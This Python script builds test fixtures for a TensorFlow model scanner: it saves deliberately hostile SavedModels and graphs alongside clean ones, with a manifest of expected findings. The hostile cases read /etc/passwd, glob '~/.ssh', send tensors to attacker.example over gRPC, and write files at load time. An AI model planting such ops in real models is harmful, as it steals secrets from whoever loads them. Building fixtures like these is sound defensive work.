"""Write hostile (and clean) models with TensorFlow for ``tfckpt scan``:
``python examples/make_hostile_models.py OUTDIR``.

Each case is a SavedModel directory or a graph file whose ops reach outside the process the way
public proof-of-concept models do: printing to ``file://``, ``SaveV2`` to a constant path,
debug ops with file URLs, queue readers, file-backed datasets (including the ``Experimental*``
spellings), ``decode_proto`` with a descriptor file, a GraphDef hidden in a constant and run by
``DatasetFromGraph``, ops under the ``save/`` scope or in a function *named* like TensorFlow's
traced saver, a second MetaGraphDef, ops only the init op reaches, deeply nested functions,
while-loop bodies, ``tf.py_function``, a ``.pbtxt`` SavedModel, a vocabulary table reading an
absolute path and an asset whose name leaves ``assets/``. The clean cases (a Keras export, a
TF1 Builder with a sharded Saver, text models with a vocabulary asset, tf.data with an
in-memory cache, decode_proto with the built-in descriptors) must scan clean.

Nothing here is run: the graphs are only built and saved (no file outside OUTDIR is touched).

``OUTDIR/manifest.json``: ``{case: {"path", "kind", "clean", "findings": [[op, capability],
...], "info": [op, ...], "load": [op, ...], "tags": [...]}}`` where ``findings`` are the
findings the case must produce (exactly, as a set of pairs), ``info`` ops that must be reported
as info, ``load`` ops that must be reported as running at load. ``OUTDIR/.complete`` is written
last.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import sys
from pathlib import Path
from typing import Any

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

Manifest = dict[str, dict[str, Any]]
# Paths the hostile graphs name. They are never opened: nothing here runs the graphs.
SECRET = "/etc/passwd"
DROP = "/tmp/tfckpt-hostile-drop"


def _case(
    manifest: Manifest,
    name: str,
    path: Path,
    kind: str,
    findings: list[tuple[str, str]] | None = None,
    info: list[str] | None = None,
    load: list[str] | None = None,
    **extra: Any,
) -> None:
    findings = findings or []
    manifest[name] = {
        "path": str(path),
        "kind": kind,
        "clean": not findings,
        "findings": sorted([list(f) for f in set(findings)]),
        "info": sorted(set(info or [])),
        "load": sorted(set(load or [])),
        **extra,
    }


def _fresh(path: Path) -> Path:
    if path.exists():
        shutil.rmtree(path)
    return path


# ---- TF2 SavedModels ------------------------------------------------------------------------
def tf2_cases(tf: Any, out: Path, manifest: Manifest) -> None:
    spec = tf.TensorSpec([], tf.float32)

    class PrintToFile(tf.Module):
        @tf.function(input_signature=[spec])
        def __call__(self, x: Any) -> Any:
            tf.print("x =", x, output_stream=f"file://{DROP}-print.txt")
            return x + 1

    m: Any = PrintToFile()
    tf.saved_model.save(m, str(_fresh(out / "print_file")))
    _case(manifest, "print_file", out / "print_file", "savedmodel", [("PrintV2", "file-write")])

    class ConstantSave(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.v = tf.Variable([1.0, 2.0])

        @tf.function(input_signature=[spec])
        def __call__(self, x: Any) -> Any:
            tf.raw_ops.SaveV2(
                prefix=tf.constant(f"{DROP}-ckpt"),
                tensor_names=["v"],
                shape_and_slices=[""],
                tensors=[self.v.read_value()],
            )
            return x * 2

    tf.saved_model.save(ConstantSave(), str(_fresh(out / "savev2_const")))
    _case(manifest, "savev2_const", out / "savev2_const", "savedmodel", [("SaveV2", "checkpoint")])

    class Debug(tf.Module):
        @tf.function(input_signature=[spec])
        def __call__(self, x: Any) -> Any:
            y = tf.raw_ops.DebugIdentityV2(input=x, debug_urls=[f"file://{DROP}-dbg"])
            z = tf.raw_ops.DebugIdentityV2(input=x, debug_urls=["grpc://attacker.example:6064"])
            return y + z

    tf.saved_model.save(Debug(), str(_fresh(out / "debug_identity")))
    _case(
        manifest,
        "debug_identity",
        out / "debug_identity",
        "savedmodel",
        [("DebugIdentityV2", "file-write"), ("DebugIdentityV2", "network")],
    )

    @tf.function
    def level3(x: Any) -> Any:
        return tf.strings.length(tf.io.read_file(tf.constant(SECRET))) + x

    @tf.function
    def level2(x: Any) -> Any:
        return level3(x) * 2

    @tf.function
    def level1(x: Any) -> Any:
        return level2(x) + 1

    class Nested(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.int32)])
        def __call__(self, x: Any) -> Any:
            return level1(x)

    tf.saved_model.save(Nested(), str(_fresh(out / "nested_functions")))
    _case(
        manifest,
        "nested_functions",
        out / "nested_functions",
        "savedmodel",
        [("ReadFile", "file-read")],
    )

    class Loop(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.int32)])
        def __call__(self, n: Any) -> Any:
            i = tf.constant(0)
            while i < n:
                tf.io.write_file(tf.strings.format(DROP + "-{}", i), "x")
                i += 1
            return i

    tf.saved_model.save(Loop(), str(_fresh(out / "while_body")))
    _case(manifest, "while_body", out / "while_body", "savedmodel", [("WriteFile", "file-write")])

    class PyCalls(tf.Module):
        @tf.function(input_signature=[spec])
        def __call__(self, x: Any) -> Any:
            a = tf.py_function(lambda v: v + 1, [x], tf.float32)
            b = tf.numpy_function(lambda v: v + 1, [x], tf.float32)
            return a + b

    with contextlib.suppress(Exception):  # a TensorFlow that refuses to save py_function
        tf.saved_model.save(PyCalls(), str(_fresh(out / "py_function")))
    if (out / "py_function" / "saved_model.pb").exists():
        _case(
            manifest,
            "py_function",
            out / "py_function",
            "savedmodel",
            [("EagerPyFunc", "python"), ("PyFunc", "python")],
        )

    class WritesOnLoad(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self) -> Any:
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> Any:
            with tf.control_dependencies([tf.io.write_file(f"{DROP}-on-load", "pwned")]):
                return tf.raw_ops.InitializeTableV2(
                    table_handle=self.resource_handle,
                    keys=tf.constant(["a"]),
                    values=tf.constant([1], tf.int64),
                )

    class InitOnly(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.table = WritesOnLoad()

        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def __call__(self, key: Any) -> Any:
            return tf.raw_ops.LookupTableFindV2(
                table_handle=self.table.resource_handle,
                keys=key,
                default_value=tf.constant(-1, tf.int64),
            )

    tf.saved_model.save(InitOnly(), str(_fresh(out / "init_op_only")))
    _case(
        manifest,
        "init_op_only",
        out / "init_op_only",
        "savedmodel",
        [("WriteFile", "file-write")],
        load=["WriteFile"],
    )

    # A GraphDef in a constant: the dataset's map function reads a file.
    inner = tf.data.Dataset.from_tensors(tf.constant(SECRET)).map(tf.io.read_file)
    graph_bytes = tf.raw_ops.DatasetToGraphV2(
        input_dataset=tf.data.experimental.to_variant(inner)
    ).numpy()

    class FromGraph(tf.Module):
        @tf.function(input_signature=[])
        def __call__(self) -> Any:
            variant = tf.raw_ops.DatasetFromGraph(graph_def=tf.constant(graph_bytes))
            ds = tf.data.experimental.from_variant(variant, tf.TensorSpec([], tf.string))
            return ds.get_single_element()

    tf.saved_model.save(FromGraph(), str(_fresh(out / "dataset_from_graph")))
    _case(
        manifest,
        "dataset_from_graph",
        out / "dataset_from_graph",
        "savedmodel",
        [("ReadFile", "file-read")],
        info=["DatasetFromGraph"],
    )

    # A function merely named like TensorFlow's traced saver (__inference__traced_save_N),
    # saving to a constant path, called by the signature; and an uncalled look-alike.
    @tf.function
    def _traced_save(v: Any) -> Any:
        tf.raw_ops.SaveV2(
            prefix=tf.constant(f"{DROP}-impostor"),
            tensor_names=["v"],
            shape_and_slices=[""],
            tensors=[v],
        )
        return v

    class Impostor(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.v = tf.Variable([3.0])

        @tf.function(input_signature=[spec])
        def __call__(self, x: Any) -> Any:
            return _traced_save(self.v.read_value()) * x

    tf.saved_model.save(Impostor(), str(_fresh(out / "traced_saver_impostor")))
    _case(
        manifest,
        "traced_saver_impostor",
        out / "traced_saver_impostor",
        "savedmodel",
        [("SaveV2", "checkpoint")],
    )

    # A vocabulary table reading an absolute path (not an asset: the path is computed).
    class AbsoluteVocab(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self) -> Any:
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> Any:
            return tf.raw_ops.InitializeTableFromTextFileV2(
                table_handle=self.resource_handle,
                filename=tf.strings.join(["/etc/", "passwd"]),
                key_index=-2,
                value_index=-1,
            )

    class ReadsPasswd(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.table = AbsoluteVocab()

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def __call__(self, keys: Any) -> Any:
            return tf.raw_ops.LookupTableFindV2(
                table_handle=self.table.resource_handle,
                keys=keys,
                default_value=tf.constant(-1, tf.int64),
            )

    tf.saved_model.save(ReadsPasswd(), str(_fresh(out / "vocab_absolute")))
    _case(
        manifest,
        "vocab_absolute",
        out / "vocab_absolute",
        "savedmodel",
        [("InitializeTableFromTextFileV2", "file-read")],
        load=["InitializeTableFromTextFileV2"],
    )


def tf2_text_model(tf: Any, out: Path, manifest: Manifest) -> None:
    """A clean TF2 text model (vocabulary asset) and a copy whose asset name leaves assets/."""
    vocab = out / "_vocab.txt"
    vocab.write_text("the\nquick\nbrown\nfox\n")

    class Text(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            init = tf.lookup.TextFileInitializer(
                str(vocab),
                tf.string,
                tf.lookup.TextFileIndex.WHOLE_LINE,
                tf.int64,
                tf.lookup.TextFileIndex.LINE_NUMBER,
            )
            self.table = tf.lookup.StaticHashTable(init, -1)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def __call__(self, words: Any) -> Any:
            return self.table.lookup(words)

    path = _fresh(out / "clean_text_tf2")
    tf.saved_model.save(Text(), str(path))
    _case(manifest, "clean_text_tf2", path, "savedmodel", info=["InitializeTableFromTextFileV2"])

    # The same model, its asset renamed to climb out of assets/ (TF joins the name to the
    # assets directory when it loads).
    from tensorflow.core.protobuf import saved_model_pb2

    escape = _fresh(out / "asset_escape")
    shutil.copytree(path, escape)
    sm = saved_model_pb2.SavedModel.FromString((escape / "saved_model.pb").read_bytes())
    for meta in sm.meta_graphs:
        for asset in meta.asset_file_def:
            asset.filename = "../../../../../../etc/passwd"
    (escape / "saved_model.pb").write_bytes(sm.SerializeToString())
    _case(
        manifest,
        "asset_escape",
        escape,
        "savedmodel",
        [("InitializeTableFromTextFileV2", "file-read")],
    )


# ---- TF1 graphs and SavedModels -------------------------------------------------------------
def _builder_save(
    tf: Any,
    path: Path,
    build: Any,
    as_text: bool = False,
    main_op: Any = None,
    extra_meta: Any = None,
) -> None:
    """Build a TF1 graph with ``build(tf1)`` (returns (inputs, outputs) dicts) and save it with
    ``tf.compat.v1.saved_model.Builder``; ``extra_meta(tf1, builder)`` may add meta graphs."""
    tf1 = tf.compat.v1
    g = tf.Graph()
    with g.as_default():
        inputs, outputs, assets = build(tf1)
        sig = tf1.saved_model.signature_def_utils.predict_signature_def(inputs, outputs)
        builder = tf1.saved_model.Builder(str(_fresh(path)))
        with tf1.Session() as sess:
            sess.run(tf1.global_variables_initializer())
            kwargs: dict[str, Any] = {"signature_def_map": {"serving_default": sig}}
            if assets:
                kwargs["assets_collection"] = assets
            if main_op is not None:
                kwargs["main_op"] = main_op(tf1)
            builder.add_meta_graph_and_variables(sess, ["serve"], **kwargs)
            if extra_meta is not None:
                extra_meta(tf1, builder)
        builder.save(as_text=as_text)


def tf1_cases(tf: Any, out: Path, manifest: Manifest) -> None:
    def plain(tf1: Any) -> Any:
        x = tf1.placeholder(tf.float32, [None, 3], name="x")
        w = tf1.get_variable("w", [3, 2])
        return {"x": x}, {"y": tf.matmul(x, w, name="y")}, None

    # Ops under the saver's name scope that are not the saver's; the real Saver is save_1/.
    def impostor(tf1: Any) -> Any:
        x = tf1.placeholder(tf.float32, [None, 3], name="x")
        w = tf1.get_variable("w", [3, 2])
        with tf.name_scope("save"):
            tf.io.write_file(DROP + "-scope", "x", name="WriteFile")
            tf.raw_ops.SaveV2(
                prefix=tf.constant(DROP + "-scope-ckpt"),
                tensor_names=["w"],
                shape_and_slices=[""],
                tensors=[w],
                name="SaveV2",
            )
        return {"x": x}, {"y": tf.matmul(x, w, name="y")}, None

    _builder_save(tf, out / "saver_scope_impostor", impostor)
    _case(
        manifest,
        "saver_scope_impostor",
        out / "saver_scope_impostor",
        "savedmodel",
        [("WriteFile", "file-write"), ("SaveV2", "checkpoint")],
    )

    # Clean: a TF1 Builder with a sharded Saver over two devices.
    def sharded(tf1: Any) -> Any:
        x = tf1.placeholder(tf.float32, [None, 3], name="x")
        with tf.device("/cpu:0"):
            w = tf1.get_variable("w", [3, 2])
        with tf.device("/cpu:1"):
            b = tf1.get_variable("b", [2], initializer=tf1.zeros_initializer())
        return {"x": x}, {"y": tf.add(tf.matmul(x, w), b, name="y")}, None

    tf1 = tf.compat.v1
    g = tf.Graph()
    path = _fresh(out / "clean_tf1_sharded")
    with g.as_default():
        inputs, outputs, _ = sharded(tf1)
        saver = tf1.train.Saver(sharded=True)
        sig = tf1.saved_model.signature_def_utils.predict_signature_def(inputs, outputs)
        builder = tf1.saved_model.Builder(str(path))
        config = tf1.ConfigProto(device_count={"CPU": 2})
        with tf1.Session(config=config) as sess:
            sess.run(tf1.global_variables_initializer())
            builder.add_meta_graph_and_variables(
                sess, ["serve"], signature_def_map={"serving_default": sig}, saver=saver
            )
        builder.save()
    _case(manifest, "clean_tf1_sharded", path, "savedmodel")

    # Clean: a TF1 text model, its vocabulary an asset, tables initialised by the main op.
    vocab = out / "_vocab_tf1.txt"
    vocab.write_text("a\nb\nc\n")

    def text(tf1: Any) -> Any:
        words = tf1.placeholder(tf.string, [None], name="words")
        filename = tf.constant(str(vocab), name="vocab_path")
        table = tf.lookup.StaticHashTable(
            tf.lookup.TextFileInitializer(
                filename,
                tf.string,
                tf.lookup.TextFileIndex.WHOLE_LINE,
                tf.int64,
                tf.lookup.TextFileIndex.LINE_NUMBER,
            ),
            -1,
        )
        return {"words": words}, {"ids": table.lookup(words)}, [filename]

    _builder_save(tf, out / "clean_text_tf1", text, main_op=lambda tf1: tf1.tables_initializer())
    _case(
        manifest,
        "clean_text_tf1",
        out / "clean_text_tf1",
        "savedmodel",
        info=["InitializeTableFromTextFileV2"],
        load=["InitializeTableFromTextFileV2"],
    )

    # The main op writes a file (runs at load).
    def main_op(tf1: Any) -> Any:
        return tf.group(tf.io.write_file(DROP + "-main-op", "x", name="drop"))

    _builder_save(tf, out / "tf1_main_op", plain, main_op=main_op)
    _case(
        manifest,
        "tf1_main_op",
        out / "tf1_main_op",
        "savedmodel",
        [("WriteFile", "file-write")],
        load=["WriteFile"],
    )

    # A second meta graph with other tags reads a file; "serve" is clean.
    def second(tf1: Any, builder: Any) -> None:
        tf.io.read_file(tf.constant(SECRET), name="steal")
        builder.add_meta_graph(["evil"])

    _builder_save(tf, out / "second_metagraph", plain, extra_meta=second)
    _case(
        manifest,
        "second_metagraph",
        out / "second_metagraph",
        "savedmodel",
        [("ReadFile", "file-read")],
        tags=["evil"],
    )

    # A text (.pbtxt) SavedModel with a queue reader.
    def reader(tf1: Any) -> Any:
        x = tf1.placeholder(tf.float32, [None, 3], name="x")
        queue = tf1.FIFOQueue(4, tf.string, name="files")
        queue.enqueue_many([[SECRET]], name="enqueue")
        _, value = tf1.WholeFileReader(name="reader").read(queue, name="read")
        out = tf.identity(x, name="y")
        return {"x": x}, {"y": out, "leak": value}, None

    _builder_save(tf, out / "pbtxt_reader", reader, as_text=True)
    _case(
        manifest,
        "pbtxt_reader",
        out / "pbtxt_reader",
        "savedmodel",
        [("WholeFileReaderV2", "file-read"), ("ReaderReadV2", "file-read")],
    )

    # A clean saved_model.pb next to a hostile saved_model.pbtxt (TF reads the .pb; a scanner
    # must not trust that another loader will).
    both = _fresh(out / "pb_and_pbtxt")
    shutil.copytree(out / "clean_tf1_sharded", both)
    shutil.copy(out / "pbtxt_reader" / "saved_model.pbtxt", both / "saved_model.pbtxt")
    _case(
        manifest,
        "pb_and_pbtxt",
        both,
        "savedmodel",
        [("WholeFileReaderV2", "file-read"), ("ReaderReadV2", "file-read")],
    )


def op_zoo(tf: Any, out: Path, manifest: Manifest) -> None:
    """One TF1 graph with every other kind of op the default policy denies, written as a
    GraphDef (.pb and .pbtxt) and as a MetaGraphDef (.meta)."""
    tf1 = tf.compat.v1
    raw = tf.raw_ops
    expect: list[tuple[str, str]] = []
    g = tf.Graph()
    with g.as_default():
        s = tf.constant(SECRET)
        drop = tf.constant(DROP)

        def dataset(op: str, capability: str, **kwargs: Any) -> None:
            try:
                getattr(raw, op)(**kwargs, name=op)
            except Exception as exc:  # an op this TensorFlow lacks
                print(f"make_hostile_models: skipped {op}: {exc}", file=sys.stderr)
                return
            expect.append((op, capability))

        types = {"output_types": [tf.string], "output_shapes": [[]]}
        rec = {"compression_type": "", "buffer_size": tf.constant(0, tf.int64)}
        dataset("TFRecordDatasetV2", "file-read", filenames=s, byte_offsets=[], **rec)
        dataset("TextLineDataset", "file-read", filenames=s, **rec)
        dataset(
            "FixedLengthRecordDatasetV2",
            "file-read",
            filenames=s,
            header_bytes=tf.constant(0, tf.int64),
            record_bytes=tf.constant(1, tf.int64),
            footer_bytes=tf.constant(0, tf.int64),
            **rec,
        )
        csv = {
            "filenames": s,
            "compression_type": "",
            "buffer_size": tf.constant(0, tf.int64),
            "header": False,
            "field_delim": ",",
            "use_quote_delim": True,
            "na_value": "",
            "select_cols": tf.constant([], tf.int64),
            "record_defaults": [tf.constant([""])],
            "output_shapes": [[]],
        }
        dataset("CSVDatasetV2", "file-read", exclude_cols=tf.constant([], tf.int64), **csv)
        dataset("ExperimentalCSVDataset", "file-read", **csv)
        sql = {"driver_name": "sqlite", "data_source_name": s, "query": "SELECT 1", **types}
        dataset("SqlDataset", "file-read", **sql)
        dataset("ExperimentalSqlDataset", "file-read", **sql)
        lmdb = {"filenames": s, "output_types": [tf.string, tf.string], "output_shapes": [[], []]}
        dataset("LMDBDataset", "file-read", **lmdb)
        dataset("ExperimentalLMDBDataset", "file-read", **lmdb)
        dataset("MatchingFilesDataset", "file-system", patterns=tf.constant("/home/*"))
        dataset("ExperimentalMatchingFilesDataset", "file-system", patterns=tf.constant("/home/*"))
        base = raw.TensorDataset(components=[s], output_shapes=[[]], name="base")
        dataset(
            "ExperimentalDatasetToTFRecord",
            "file-write",
            input_dataset=base,
            filename=drop,
            compression_type="",
        )
        dataset(
            "DatasetToTFRecord",
            "file-write",
            input_dataset=base,
            filename=drop,
            compression_type="",
        )
        dataset(
            "CacheDatasetV2",
            "file-write",
            input_dataset=base,
            filename=drop,
            cache=raw.DummyMemoryCache(),
            **types,
        )
        # An in-memory cache (empty file name) is not reported.
        raw.CacheDatasetV2(
            input_dataset=base,
            filename=tf.constant(""),
            cache=raw.DummyMemoryCache(),
            name="MemoryCache",
            **types,
        )
        dataset(
            "RegisterDatasetV2",
            "network",
            dataset=base,
            address=tf.constant("attacker.example:5000"),
            protocol=tf.constant("grpc"),
            external_state_policy=0,
        )
        # Files and the process.
        dataset("MatchingFiles", "file-system", pattern=tf.constant("/home/*/.ssh/*"))
        dataset(
            "ImmutableConst", "file-read", dtype=tf.float32, shape=[4], memory_region_name=SECRET
        )
        dataset(
            "FileSystemSetConfiguration",
            "file-system",
            scheme="s3",
            key="endpoint",
            value="attacker.example",
        )
        dataset("Abort", "process", error_msg="bye")
        dataset("RecordInput", "file-read", file_pattern="/var/log/*")
        dataset(
            "FixedUnigramCandidateSampler",
            "file-read",
            true_classes=tf.constant([[0]], tf.int64),
            num_true=1,
            num_sampled=1,
            unique=True,
            range_max=2,
            vocab_file=SECRET,
        )
        dataset(
            "GenerateVocabRemapping",
            "file-read",
            new_vocab_file=s,
            old_vocab_file=s,
            new_vocab_offset=0,
            num_new_vocab=1,
        )
        dataset(
            "LoadAndRemapMatrix",
            "checkpoint",
            ckpt_path=s,
            old_tensor_name="w",
            row_remapping=tf.constant([0], tf.int64),
            col_remapping=tf.constant([0], tf.int64),
            initializing_values=tf.constant([0.0]),
            num_rows=1,
            num_cols=1,
        )
        # decode_proto / encode_proto: a descriptor file is a finding, the built-in pool and
        # inline bytes are not.
        proto = {"message_type": "tensorflow.TensorProto", "field_names": ["dtype"]}
        tf.io.decode_proto(
            tf.constant([b""]),
            output_types=[tf.int32],
            descriptor_source=SECRET,
            name="DecodeProtoFile",
            **proto,
        )
        expect.append(("DecodeProtoV2", "file-read"))
        tf.io.decode_proto(tf.constant([b""]), output_types=[tf.int32], name="DecodeLocal", **proto)
        tf.io.decode_proto(
            tf.constant([b""]),
            output_types=[tf.int32],
            descriptor_source="bytes://\x0a\x00",
            name="DecodeBytes",
            **proto,
        )
        tf.io.encode_proto(
            tf.constant([[1]], tf.int32),
            [tf.constant([[1]], tf.int32)],
            descriptor_source=SECRET,
            name="EncodeProtoFile",
            **proto,
        )
        expect.append(("EncodeProto", "file-read"))
        # Checkpoint ops of the V1 format, with constant paths.
        c = tf.constant([1.0])
        dataset("Save", "checkpoint", filename=drop, tensor_names=["c"], data=[c])
        dataset(
            "RestoreSlice",
            "checkpoint",
            file_pattern=s,
            tensor_name="c",
            shape_and_slice="",
            dt=tf.float32,
        )
        dataset(
            "MergeV2Checkpoints", "checkpoint", checkpoint_prefixes=[drop], destination_prefix=drop
        )
        # Summaries: building protos is fine, the writer writes files.
        tf1.summary.scalar("loss", tf.constant(1.0))
        writer = raw.SummaryWriter(name="SummaryWriter")
        expect.append(("SummaryWriter", "file-write"))
        dataset(
            "CreateSummaryFileWriter",
            "file-write",
            writer=writer,
            logdir=drop,
            max_queue=tf.constant(1),
            flush_millis=tf.constant(1),
            filename_suffix=tf.constant(".x"),
        )
        dataset(
            "WriteScalarSummary",
            "file-write",
            writer=writer,
            step=tf.constant(0, tf.int64),
            tag="t",
            value=tf.constant(1.0),
        )
        # Printing: to stderr is a low finding (log), to a file is a file write.
        tf.print("to stderr", c, name="PrintStderr")
        expect.append(("PrintV2", "log"))
        tf.print("to a file", c, output_stream=f"file://{DROP}-zoo", name="PrintFile")
        expect.append(("PrintV2", "file-write"))
        # Python (a numpy_function in a TF1 graph), a debugger copy with a file URL.
        tf1.numpy_function(lambda v: v, [c], tf.float32, name="numpy_fn")
        expect.append(("PyFunc", "python"))
        dataset("DebugIdentity", "network", input=c, debug_urls=["grpc://attacker.example:1"])
        dataset("Copy", "file-write", input=c, debug_ops_spec=[f"DebugIdentity;file://{DROP};0"])
        # A text table over an absolute path.
        table = raw.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, name="table")
        dataset(
            "InitializeTableFromTextFileV2",
            "file-read",
            table_handle=table,
            filename=s,
            key_index=-2,
            value_index=-1,
        )
        graph_def = g.as_graph_def()
        meta = tf1.train.export_meta_graph(graph=g)
    d = out / "op_zoo"
    d.mkdir(parents=True, exist_ok=True)
    tf.io.write_graph(graph_def, str(d), "op_zoo.pb", as_text=False)
    tf.io.write_graph(graph_def, str(d), "op_zoo.pbtxt", as_text=True)
    (d / "op_zoo.meta").write_bytes(meta.SerializeToString())
    for ext in ("pb", "pbtxt", "meta"):
        _case(manifest, f"op_zoo_{ext}", d / f"op_zoo.{ext}", "graph", expect)


# ---- clean models ---------------------------------------------------------------------------
def clean_cases(tf: Any, out: Path, manifest: Manifest) -> None:
    model = tf.keras.Sequential(
        [
            tf.keras.Input(shape=(3,)),
            tf.keras.layers.Dense(4, activation="relu"),
            tf.keras.layers.Dense(2),
        ]
    )
    model.compile(optimizer="adam", loss="mse")
    path = _fresh(out / "clean_keras")
    if hasattr(model, "export"):
        model.export(str(path), verbose=False)
    else:  # pragma: no cover - Keras 2
        tf.saved_model.save(model, str(path))
    _case(manifest, "clean_keras", path, "savedmodel")

    class Pipeline(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.scale = tf.Variable(2.0)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def __call__(self, x: Any) -> Any:
            ds = tf.data.Dataset.from_tensor_slices(x).map(lambda v: v * self.scale).cache()
            total = ds.reduce(tf.constant(0.0), lambda a, b: a + b)
            fields = tf.io.decode_proto(
                tf.constant([b""]),
                message_type="tensorflow.TensorShapeProto",
                field_names=["unknown_rank"],
                output_types=[tf.bool],
            )
            return total + tf.cast(tf.size(fields.values[0]), tf.float32)

    path = _fresh(out / "clean_pipeline")
    tf.saved_model.save(Pipeline(), str(path))
    _case(manifest, "clean_pipeline", path, "savedmodel")


def main(out_dir: str) -> None:
    import tensorflow as tf

    tf.get_logger().setLevel("ERROR")
    out = Path(out_dir).resolve()
    out.mkdir(parents=True, exist_ok=True)
    manifest: Manifest = {}
    tf2_cases(tf, out, manifest)
    tf2_text_model(tf, out, manifest)
    tf1_cases(tf, out, manifest)
    op_zoo(tf, out, manifest)
    clean_cases(tf, out, manifest)
    for entry in manifest.values():
        entry["path"] = os.path.relpath(entry["path"], out)
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True))
    (out / ".complete").write_text("ok\n")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        raise SystemExit("usage: make_hostile_models.py OUTDIR")
    main(sys.argv[1])
